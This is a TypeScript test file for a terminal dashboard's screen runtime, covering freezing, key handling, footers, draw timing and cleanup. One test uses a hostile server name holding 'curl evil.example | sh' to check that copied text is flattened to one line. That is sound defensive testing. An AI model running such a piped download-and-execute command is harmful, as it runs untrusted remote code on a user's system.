import { expect, test, vi } from 'vitest';
import type { ScreenName } from '../../../src/actions/screen-table.ts';
import { textOf } from '../../support/drawn-table.ts';
import type { Overrides } from '../../support/fake-services.ts';
import { sampleState } from '../../support/sample-state.ts';
import { openScreen } from '../open-screen.ts';

function open(screen: ScreenName = 'overview', overrides: Overrides = {}) {
  const { hands, services } = openScreen(screen, sampleState(), { services: overrides });
  const draws = () => {
    const seen = { times: 0 };
    hands.runtime.subscribe(() => seen.times++);
    return seen;
  };
  return { services, hands, runtime: hands.runtime, draws, clock: services.clock };
}

test('a frozen screen does not change and says for how long, while data is still collected', async () => {
  const { hands, services, clock } = open();
  hands.press('space');
  await clock.advance(42_000);
  services.show(sampleState({ name: 'another name' }));
  hands.sees('FROZEN 42s').lacks('another name').press('space').sees('another name').lacks('FROZEN');
});

test('a key acts on the frame that the user sees; newer data counts from the next frame on', () => {
  const { hands, services } = open('servers');
  hands.press('j', 'y');
  const name = services.copied[0];
  const state = sampleState();
  services.show({ ...state, servers: state.servers.filter((record) => record.name !== name) });
  hands.press('y');
  expect(services.copied).toEqual([name, name]);
  hands.press('y');
  expect(services.copied).toEqual([name, name]);
  hands.sees('no longer in the list');
});

test('keys typed into a dialog are text, not commands', () => {
  const { hands } = open();
  expect(hands.press(':', 'q').quits).toBe(0);
  expect(hands.press('esc', 'q').quits).toBe(1);
});

test('copied text is one line, whatever line ends a hostile name has', () => {
  const { runtime, services } = open();
  runtime.copy('live\ncurl evil.example | sh\r\n\u2028x\t\x85y  z', 'the name');
  expect(services.copied).toEqual(['live curl evil.example | sh x y  z']);
});

test.each([39, 24, 12, 3])(
  'the note in a window of %i columns, which is too small, is one line',
  (columns) => {
    const size = { columns, rows: 8 };
    const rows = openScreen('overview', sampleState(), { size }).hands.screen.split('\n');
    expect(rows.filter((line) => line.trim() !== '')).toEqual([expect.stringContaining('40×')]);
  },
);

test('the footer keeps its keys under a notice, and names only keys that do something', () => {
  const { hands, runtime } = open('servers');
  const footer = () => hands.screen.split('\n').at(-1) ?? '';
  const border = () => hands.pane('servers.list')?.lines.at(-1) ?? [];
  expect(textOf(border())).toMatch(/^└─ \/ filter ─ f narrow ─ s sort ─+┘$/);
  expect(border().find(({ text }) => text === 's')?.link).toEqual({ kind: 'command', id: 'table.sort' });
  expect(footer()).toMatch(/enter open .*\? help .*q quit/);
  expect(footer()).not.toMatch(/filter|sort/);
  runtime.notice('Copied the name edge-1a.', 'ok');
  expect(footer()).toMatch(/Copied the name edge-1a\. │ .*enter open .*\? help .*q quit/);
  runtime.goTo('servers', { opened: 'edge-1a' });
  expect(footer() + textOf(border())).not.toMatch(/filter|sort|view/);
  hands.press('2');
  expect(footer()).not.toMatch(/open|acknowledge/);
});

test('changes within 60 ms are drawn together', async () => {
  const { hands, services, clock, draws } = open();
  await clock.advance(500);
  const seen = draws();
  for (const name of ['one', 'two', 'three']) {
    services.show(sampleState({ name }));
    await clock.advance(10);
  }
  expect(seen.times).toBe(0);
  await clock.advance(30);
  expect(seen.times).toBe(1);
  hands.sees('three');
});

test('the clock advances each second, on the second, and a notice disappears after five', async () => {
  const { hands, runtime, clock } = open();
  runtime.notice('Copied the name.', 'ok');
  const shown = () =>
    hands.runtime
      .panes()
      .flatMap(({ lines }) => lines.map(textOf))
      .join('\n');
  for (const [ms, time] of [
    [999, '12:10:00'],
    [1, '12:10:01'],
    [3_000, '12:10:04'],
  ] as const) {
    await clock.advance(ms);
    expect(shown()).toMatch(new RegExp(`${time} *$[\\s\\S]*Copied`, 'm'));
  }
  await clock.advance(1_000);
  expect(shown()).toMatch(/12:10:05 *$(?![\s\S]*Copied)/m);
});

test('nothing is drawn and no timer is left after the end', async () => {
  const { services, runtime, clock, draws } = open();
  services.show(sampleState({ name: 'late' }));
  runtime.stop();
  const seen = draws();
  services.show(sampleState({ name: 'later' }));
  await clock.advance(5_000);
  expect([seen.times, clock.waiting]).toEqual([0, 0]);
});

test('another cluster starts with nothing opened, frozen or visited', () => {
  const { hands, runtime } = open();
  hands.press('3', 'enter', 'space', '?');
  runtime.forget();
  expect(hands.ui).toMatchObject({ slices: {}, back: [], dialogs: [], held: undefined });
});

test('a screen reads what it needs when it is entered, and not again while it stays open', () => {
  const readAudit = vi.fn(async () => ({ entries: [], unreadable: 0, path: undefined }));
  const { hands } = open('servers', { readAudit });
  const reads = (...keys: string[]) => hands.press(...keys) && readAudit.mock.calls.length;
  expect([reads('6'), reads('6', 'j', 'k'), reads('3', '6')]).toEqual([1, 1, 2]);
});
